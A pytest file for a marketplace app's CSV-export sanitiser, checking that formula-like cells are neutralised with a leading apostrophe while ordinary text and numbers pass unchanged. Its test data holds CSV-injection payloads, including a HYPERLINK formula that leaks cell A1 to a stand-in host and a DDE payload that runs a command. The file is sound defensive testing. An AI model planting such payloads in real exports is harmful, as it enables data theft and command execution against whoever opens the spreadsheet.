"""CSV the product writes never carries a live formula (core/csvsafe.py)."""
from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from marketplace.core.csvsafe import neutralise, write_csv

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1:A2)",
            "\t=1+1", "\r=1+1", "\uff1d1+1", "=cmd|' /C calc'!A0"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_a_text_cell_that_a_spreadsheet_would_run_is_written_as_text(cell):
    assert neutralise(cell) == "'" + cell
    [[back]] = list(csv.reader(io.StringIO(write_csv([[cell]]), newline="")))
    assert back == "'" + cell


@pytest.mark.parametrize("cell", ["Café install", "Store 101, Dallas", "a=b", "1-800 line",
                                  "", "'quoted already"])
def test_other_text_is_written_as_it_is(cell):
    assert neutralise(cell) == cell


def test_numbers_stay_numbers_and_none_is_empty():
    assert [neutralise(v) for v in (-5, 2.5, Decimal("-12.50"), 0, None, True)] == \
        ["-5", "2.5", "-12.50", "0", "", "true"]


def test_write_csv_quotes_and_neutralises_every_cell_header_included():
    text = write_csv([["=1+1", "a,b", "line\nbreak", -3], ["@x", None, "ok", 4]],
                     header=["title", "-note", "c", "n"])
    assert text.endswith("\r\n")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["title", "'-note", "c", "n"], ["'=1+1", "a,b", "line\nbreak", "-3"],
                    ["'@x", "", "ok", "4"]]
